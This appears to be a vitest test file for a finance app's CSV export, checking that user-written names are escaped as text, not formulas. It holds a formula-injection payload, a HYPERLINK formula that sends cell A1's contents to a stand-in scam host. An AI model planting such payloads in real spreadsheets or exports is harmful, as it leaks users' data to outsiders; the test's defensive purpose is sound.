import { afterAll, beforeAll, expect, it } from 'vitest';
import { categoryId, client, data } from '../../test/client.ts';
import { bearer, createAccount, startTestServer, type TestServer } from '../../test/helper.ts';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.close());

it('exports user-written names as text, never as formulas, and amounts as numbers', async () => {
  const account = await createAccount(server);
  const api = client(server, account.token);
  const wallet = await data<{ _id: string }>(
    api('POST', '/payments', { name: '@SUM(1+1)', type: 'debit', accountType: 'Conta corrente', value: 0 }),
    201,
  );
  await data(
    api('POST', '/transactions', {
      name: '=HYPERLINK("https://golpe.example/?d="&A1,"Clique")',
      value: 10,
      date: '2026-11-10',
      paid: true,
      transactionType: 'expenses',
      category: await categoryId(api, 'Aluguel'),
      payment: wallet._id,
    }),
    201,
  );

  const csv = await server.app.inject({
    method: 'POST',
    url: '/api/users/export_user_story',
    headers: bearer(account.token),
  });

  expect(csv.statusCode).toBe(200);
  const line = csv.body.split('\r\n').find((row) => row.startsWith('10/11/2026;'));
  expect(line).toBe(
    `10/11/2026;"'=HYPERLINK(""https://golpe.example/?d=""&A1,""Clique"")";Aluguel;Despesa;-10,00;"'@SUM(1+1)";Sim`,
  );
});
